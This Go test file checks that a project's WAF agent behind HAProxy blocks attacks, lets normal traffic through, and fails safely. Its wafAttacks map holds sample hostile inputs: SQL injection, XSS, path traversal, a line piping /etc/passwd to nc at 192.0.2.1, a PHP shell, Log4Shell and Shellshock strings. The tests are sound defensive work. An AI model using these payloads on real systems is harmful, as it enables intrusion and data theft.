package routingtest

import (
	"bytes"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/hapsnap/hapsnap/compiler/config"
	"github.com/hapsnap/hapsnap/internal/child"
)

// wafAgent is the shipped program waf, with its socket.
type wafAgent struct {
	program, socket string
	args            []string
	cmd             *exec.Cmd
	ended           <-chan struct{}
	out             *heard
}

// heard is the output of a program.
type heard struct {
	mu   sync.Mutex
	text bytes.Buffer
}

func (h *heard) Write(p []byte) (int, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.text.Write(p)
}

func (h *heard) String() string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.text.String()
}

// startWAF builds the program and starts it. An inspection may take long, since the machine may be busy.
func startWAF(tb testing.TB, args ...string) *wafAgent {
	tb.Helper()
	dir := tb.TempDir()
	a := &wafAgent{program: filepath.Join(dir, "waf"), socket: filepath.Join(dir, "spop.sock"), args: append([]string{"--deadline", "20s"}, args...), out: &heard{}}
	build := exec.CommandContext(tb.Context(), "go", "build", "-buildvcs=false", "-ldflags=-s -w", "-tags=no_fs_access", "-o", a.program, "../../cmd/waf")
	if out, err := build.CombinedOutput(); err != nil {
		tb.Fatalf("%v\n%s", err, out)
	}
	a.start(tb)
	tb.Cleanup(func() {
		a.kill(tb)
		if tb.Failed() {
			tb.Logf("waf said:\n%s", a.out)
		}
	})
	return a
}

func (a *wafAgent) start(tb testing.TB) {
	tb.Helper()
	a.cmd = exec.Command(a.program, append([]string{"run", "--listen", "unix@" + a.socket}, a.args...)...)
	a.cmd.Stdout, a.cmd.Stderr = a.out, a.out
	ended, err := child.Start(a.cmd)
	if err != nil {
		tb.Fatal(err)
	}
	a.ended = ended
}

// kill ends the program with SIGKILL, as a kernel without memory does.
func (a *wafAgent) kill(tb testing.TB) {
	tb.Helper()
	select {
	case <-a.ended:
		return
	default:
	}
	if err := a.cmd.Process.Kill(); err != nil {
		tb.Error(err)
	}
	<-a.ended
}

// use sets the agent in the configuration, with a long timeout.
func (a *wafAgent) use(cfg *config.Config) {
	cfg.WAF.Socket, cfg.WAF.Timeouts.Processing = a.socket, "25s"
}

// awaitWAF waits until a route with a policy answers fast. By then the agent has prepared the policy, and a
// failed first check of HAProxy is over: such a check closes all routes with policies until the next check.
func awaitWAF(tb testing.TB, e edge, hosts ...string) {
	tb.Helper()
	for _, host := range hosts {
		await(tb, func() error {
			request, err := http.NewRequestWithContext(tb.Context(), http.MethodGet, "http://"+e.http+"/", nil)
			if err != nil {
				return err
			}
			request.Host = host + ".example"
			began := time.Now()
			r, err := http.DefaultTransport.RoundTrip(request)
			if err != nil {
				return err
			}
			r.Body.Close()
			if took := time.Since(began); r.StatusCode != http.StatusOK || took > 500*time.Millisecond {
				return fmt.Errorf("%s: %d, after %s", host, r.StatusCode, took)
			}
			return nil
		})
	}
}

// browser is the header lines that browsers send.
const browser = "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\nAccept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\nAccept-Language: en-US,en;q=0.5"

const (
	ofForm = "Content-Type: application/x-www-form-urlencoded"
	ofJSON = "Content-Type: application/json"
)

// visit returns a GET request of a browser, and posting a POST request with a body of a type. host is the first
// label of the host.
func visit(host, target string, lines ...string) string {
	return strings.Join(append([]string{"GET " + target + " HTTP/1.1", "Host: " + host + ".example", browser}, lines...), "\n")
}

func posting(host, target, kind, body string) string {
	return post(host, target, body, 0, strings.Split(browser+"\n"+kind, "\n")...)
}

// wafCase is a request and the status of its answer.
type wafCase struct {
	request string
	want    int
}

const (
	sqlAttack, scriptAttack = "1' OR '1'='1' UNION SELECT password FROM users--", "<script>alert(document.cookie)</script>"
	multipart               = "Content-Type: multipart/form-data; boundary=xyz"
)

func asking(host, name, value string) string {
	return visit(host, "/?"+url.Values{name: {value}}.Encode())
}

func formOf(values ...string) string {
	out := url.Values{}
	for i := 0; i < len(values); i += 2 {
		out.Set(values[i], values[i+1])
	}
	return out.Encode()
}

func filler(n int) string { return strings.Repeat("Lorem ipsum dolor sit amet ", n/27+1)[:n] }

func multipartOf(head, value string) string {
	return "--xyz\r\nContent-Disposition: form-data; " + head + "\r\n\r\n" + value + "\r\n--xyz--\r\n"
}

func wafAttacks() map[string]wafCase {
	return map[string]wafCase{
		"SQL in the query":              {asking("block", "id", sqlAttack), 403},
		"SQL in the query, twice coded": {visit("block", "/?id="+url.QueryEscape(url.QueryEscape(sqlAttack))), 403},
		"SQL in a form":                 {posting("block", "/", ofForm, formOf("id", sqlAttack)), 403},
		"SQL in a form, chunked":        {post("block", "/", formOf("id", sqlAttack), 7, strings.Split(browser+"\n"+ofForm, "\n")...), 403},
		"SQL in JSON":                   {posting("block", "/", ofJSON, `{"user":{"names":["x' or 1=1 union select 1,2 -- -"]}}`), 403},
		"SQL in a cookie":               {visit("block", "/", "Cookie: id=1' or 1=1 union select 1,2,3 -- -"), 403},
		"SQL in the path":               {visit("careful", "/items/"+url.PathEscape(sqlAttack)), 403},
		"XSS in the query":              {asking("block", "q", scriptAttack), 403},
		"XSS in an attribute":           {asking("block", "q", `"><img src=x onerror=alert(1)>`), 403},
		"XSS in XML":                    {posting("block", "/", "Content-Type: text/xml", "<?xml version=\"1.0\"?><a><b><![CDATA["+scriptAttack+"]]></b></a>"), 403},
		"XSS in multipart":              {posting("block", "/", multipart, multipartOf(`name="a"`, scriptAttack)), 403},
		"path traversal in the query":   {asking("block", "file", "../../../../etc/passwd"), 403},
		"path traversal in the path":    {visit("block", "/static/..%252f..%252f..%252fetc/passwd"), 403},
		"remote command":                {asking("block", "host", "8.8.8.8; cat /etc/passwd | nc 192.0.2.1 4444"), 403},
		"PHP":                           {asking("block", "x", "<?php system($_GET['c']); ?>"), 403},
		"Log4Shell":                     {visit("block", "/", "X-Api-Version: ${jndi:ldap://192.0.2.1/a}"), 403},
		"Log4Shell, hidden":             {visit("block", "/", "X-Api-Version: ${${lower:j}ndi:${lower:l}dap://192.0.2.1/a}"), 403},
		"Shellshock":                    {visit("block", "/", "Referer: () { :; }; /bin/cat /etc/passwd"), 403},
		"a scanner":                     {strings.Replace(visit("block", "/"), "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "sqlmap/1.7.2#stable (https://sqlmap.org)", 1), 403},
		"a file of secrets":             {visit("block", "/.git/config"), 403},
		"response splitting":            {visit("block", "/?u=%0d%0aSet-Cookie:%20a=b%0d%0a%0d%0a%3Chtml%3E"), 403},
		"no JSON":                       {posting("block", "/", ofJSON, `{"a":`), 403},
		"XSS after 14 kB":               {posting("block", "/", ofForm, formOf("a", filler(14<<10), "b", scriptAttack)), 403},
		"XSS after 40 kB":               {posting("block", "/", ofForm, formOf("a", filler(40<<10), "b", scriptAttack)), 413},
		"XSS after 40 kB, chunked":      {post("block", "/", formOf("a", filler(40<<10), "b", scriptAttack), 5000, strings.Split(browser+"\n"+ofForm, "\n")...), 413},
		"XSS after 40 kB, allowed":      {posting("partial", "/", ofForm, formOf("a", filler(40<<10), "b", scriptAttack)), 200},
		"XSS at once, allowed":          {posting("partial", "/", ofForm, formOf("a", scriptAttack, "b", filler(40<<10))), 403},
		"PUT":                           {strings.Replace(posting("block", "/", ofJSON, `{"a":1}`), "POST", "PUT", 1), 403},
		"detected only":                 {asking("detect", "id", sqlAttack), 200},
		"excluded":                      {asking("search", "q", sqlAttack), 200},
		"excluded elsewhere":            {asking("search", "r", sqlAttack), 403},
		"not protected":                 {asking("bare", "id", sqlAttack), 200},
	}
}

func ordinaryRequests() map[string]wafCase {
	return map[string]wafCase{
		"a page":          {visit("block", "/shop/list?page=2&sort=price&q=red+shoes", "Cookie: session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln; theme=dark"), 200},
		"an apostrophe":   {asking("block", "q", "O'Brien & sons"), 200},
		"umlauts":         {asking("block", "q", "Größe 42 – „schön“"), 200},
		"a link":          {visit("block", "/login?return=%2Forders%3Fpage%3D2"), 200},
		"a login":         {posting("block", "/login", ofForm, formOf("user", "jane@example.com", "password", "correct horse battery")), 200},
		"JSON":            {posting("block", "/api", ofJSON, `{"name":"Chair","price":12.5,"tags":["wood","red"],"text":"A chair, for 4 people - or 5. It's fine; really!"}`), 200},
		"JSON, PUT":       {strings.Replace(posting("api", "/", ofJSON, `{"name":"Chair"}`), "POST", "PUT", 1), 200},
		"DELETE":          {strings.Replace(visit("api", "/items/1"), "GET", "DELETE", 1), 200},
		"OPTIONS":         {strings.Replace(visit("block", "/"), "GET", "OPTIONS", 1), 200},
		"HEAD":            {strings.Replace(visit("block", "/"), "GET", "HEAD", 1), 200},
		"a comment":       {posting("block", "/", ofForm, formOf("text", "I selected the table from the menu and it works. Union rules apply; please update the order!")), 200},
		"an upload":       {posting("block", "/", multipart, multipartOf("name=\"f\"; filename=\"a.txt\"\r\nContent-Type: text/plain", "hello")), 200},
		"30 kB of text":   {posting("block", "/", ofForm, formOf("a", filler(25<<10))), 200},
		"from another":    {visit("block", "/", "Referer: https://www.example.org/search?q=red+shoes", "Origin: https://www.example.org"), 200},
		"an app's client": {strings.Replace(visit("block", "/api/items?limit=10&after=2026-01-01T00:00:00Z", "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.c2ln"), "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", "application/json", 1), 200},
	}
}

// The agent of the project stops attacks in every part of a request and lets ordinary requests pass. HAProxy
// asks it with the lines that the compiler writes.
func TestWAFStopsAttacks(t *testing.T) {
	t.Parallel()
	a := startWAF(t)
	e := startWith(t, serviceYAML("shop", "a", sizeReader(t))+
		wafPolicy("shop", "block", "engine: block")+wafPolicy("shop", "detect", "")+
		wafPolicy("shop", "careful", "engine: block, paranoia: 2")+wafPolicy("shop", "api", "engine: block, exclude: [{rules: ['911100']}]")+
		wafPolicy("shop", "search", "engine: block, exclude: [{tags: [attack-sqli], targets: ['ARGS:q']}]")+
		wafPolicy("shop", "partial", "engine: block, uninspected: allow, bodyLimit: 8192")+
		all([]ingress{
			optioned("block", "waf", "block"), optioned("detect", "waf", "detect"), optioned("api", "waf", "api"), optioned("search", "waf", "search"),
			optioned("partial", "waf", "partial"), optioned("careful", "waf", "careful"), optioned("bare"),
		}), a.use)
	clean(t, e)
	awaitWAF(t, e, "block", "detect", "api", "search", "partial", "careful")
	for _, cases := range []map[string]wafCase{wafAttacks(), ordinaryRequests()} {
		for name, c := range cases {
			if got := e.send(t, false, c.request); got.StatusCode != c.want {
				t.Errorf("%s: %d, want %d", name, got.StatusCode, c.want)
			}
		}
	}
	for target, want := range map[string]string{"/": "200", "/?id=" + url.QueryEscape(sqlAttack): "403"} {
		if got := e.http2(t, "GET", "block.example", target); got != want {
			t.Errorf("HTTP/2, %s: %s, want %s", target, got, want)
		}
	}
	if got := e.http2Body(t, "block.example", filler(40<<10)); got == "200" {
		t.Errorf("HTTP/2, 40 kB without a length: %s", got)
	}
	for _, want := range []string{`"action":"deny"`, `"action":"detect"`, `"host":"block.example"`, `"route":"shop_a_80.block"`, `"id":942100`, `"attack-sqli"`} {
		if !strings.Contains(a.out.String(), want) {
			t.Errorf("no %s in the audit log", want)
		}
	}
}

// Requests are inspected once, before they are mirrored or sent again. A refused request is neither mirrored
// nor sent.
func TestWAFBeforeMirrorsAndRetries(t *testing.T) {
	t.Parallel()
	a := startWAF(t)
	copies, copiesPort := record(t)
	port, count := failing(t)
	address := ""
	e := startEdited(t, func(cfg *config.Config) string {
		a.use(cfg)
		cfg.GatewayAPI.Enabled = true
		cfg.HAProxyVersion = branch(t)
		port := port
		listener := freePort(t, cfg.Bind.Addresses[0])
		address = fmt.Sprint(cfg.Bind.Addresses[0], ":", listener)
		route := strings.Replace(routeYAML("shop", "web", "block.example", "  rules:\n"+
			"  - {filters: [{type: RequestMirror, requestMirror: {backendRef: {name: copies, port: 80}}}], retry: {codes: [500], attempts: 3}, backendRefs: [{name: web, port: 80}]}\n"),
			"namespace: shop}", "namespace: shop, annotations: {hapsnap.dev/waf: block}}", 1)
		return gatewayClass + gatewayYAML("shop", "web", listener, "") + serviceYAML("shop", "web", port) + serviceYAML("shop", "copies", copiesPort) + wafPolicy("shop", "block", "engine: block") + route
	})
	clean(t, e)
	await(t, func() error { return reachable(t, address) })
	e.http = address
	awaitWAF(t, e, "block")
	attack := url.QueryEscape("1' or 1=1 union select 1,2,3 -- -")
	if got := e.send(t, false, visit("block", "/attack?q="+attack)); got.StatusCode != 403 {
		t.Errorf("an attack: %d", got.StatusCode)
	}
	if got := e.send(t, false, posting("block", "/attack", ofForm, "q="+attack)); got.StatusCode != 403 {
		t.Errorf("an attack in a form: %d", got.StatusCode)
	}
	got := e.send(t, false, posting("block", "/good?how=500&times=2", ofForm, "q=shoes"))
	if got.StatusCode != 200 || got.body != "7" || count("/good") != 3 {
		t.Errorf("sent again: %d %s, after %d", got.StatusCode, got.body, count("/good"))
	}
	if mirrored := copies.await(t, "/good", 1); mirrored[0].body != "q=shoes" {
		t.Errorf("mirrored: %q", mirrored[0].body)
	}
	if n := count("/attack"); n > 0 {
		t.Errorf("the attack has reached the server %d times", n)
	}
	if got := copies.of("/attack"); len(got) > 0 {
		t.Errorf("the attack was mirrored")
	}
}

// status sends a GET request and returns the status.
func (e edge) status(t *testing.T, host, target string) (int, error) {
	t.Helper()
	request, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://"+e.http+target, nil)
	if err != nil {
		return 0, err
	}
	request.Host = host + ".example"
	client := http.Client{Timeout: deadline}
	r, err := client.Do(request)
	if err != nil {
		return 0, err
	}
	return r.StatusCode, r.Body.Close()
}

const sqlInQuery = "/?id=1%27%20or%201%3D1%20union%20select%201%2C2%20--%20-"

// wafLoad is a set of clients that send requests as fast as they can.
type wafLoad struct {
	edge
	clients  sync.WaitGroup
	over     atomic.Bool
	answered atomic.Int64
}

// loaded starts the clients. Only the host block may answer 503.
func loaded(t *testing.T, e edge, hosts ...string) *wafLoad {
	t.Helper()
	l := &wafLoad{edge: e}
	for _, host := range hosts {
		l.clients.Go(func() {
			for !l.over.Load() {
				status, err := e.status(t, host, "/")
				if err != nil || status != 200 && (status != 503 || host != "block") {
					t.Errorf("%s under load: %d %v", host, status, err)
					return
				}
				l.answered.Add(1)
			}
		})
	}
	return l
}

// end stops the clients after their last answers.
func (l *wafLoad) end() {
	l.over.Store(true)
	l.clients.Wait()
}

// goesOn waits for more answers.
func (l *wafLoad) goesOn(t *testing.T) {
	t.Helper()
	from := l.answered.Load()
	await(t, func() error {
		if l.answered.Load() < from+30 {
			return errors.New("no requests are answered")
		}
		return nil
	})
}

// awaitStatus waits until a target answers with this status.
func (e edge) awaitStatus(t *testing.T, host, target string, want int) {
	t.Helper()
	await(t, func() error {
		if status, err := e.status(t, host, target); err != nil || status != want {
			return fmt.Errorf("%s: %d %w, want %d", host, status, err, want)
		}
		return nil
	})
}

// If the agent is killed under load, no request hangs. A route with failure: closed answers 503, and one with
// failure: open is served. Both work as before when the agent is back.
func TestWAFKilled(t *testing.T) {
	t.Parallel()
	a := startWAF(t, "--deadline", "7s")
	e := startWith(t, serviceYAML("shop", "a", sizeReader(t))+wafPolicy("shop", "block", "engine: block")+wafPolicy("shop", "open", "engine: block, failure: open")+
		all([]ingress{optioned("block", "waf", "block"), optioned("open", "waf", "open"), optioned("bare")}), func(c *config.Config) {
		a.use(c)
		c.WAF.Timeouts.Processing = "8s"
	})
	clean(t, e)
	awaitWAF(t, e, "block", "open")
	load := loaded(t, e, "block", "open", "bare", "block", "open", "bare")
	defer load.end()
	for range 2 {
		load.goesOn(t)
		a.kill(t)
		e.awaitStatus(t, "block", "/", 503)
		// Once the check has found the agent down, no request waits for it. An answer may take 8 seconds.
		await(t, func() error {
			began := time.Now()
			for range 20 {
				if status, err := e.status(t, "block", "/"); err != nil || status != 503 {
					t.Errorf("closed: %d %v", status, err)
				}
				if status, err := e.status(t, "open", sqlInQuery); err != nil || status != 200 {
					t.Errorf("open: %d %v", status, err)
				}
			}
			if took := time.Since(began); took > 7*time.Second {
				return fmt.Errorf("40 requests took %v", took)
			}
			return nil
		})
		load.goesOn(t)
		a.start(t)
		e.awaitStatus(t, "block", "/", 200)
		for host, want := range map[string]int{"block": 403, "open": 403, "bare": 200} {
			e.awaitStatus(t, host, sqlInQuery, want)
		}
	}
}
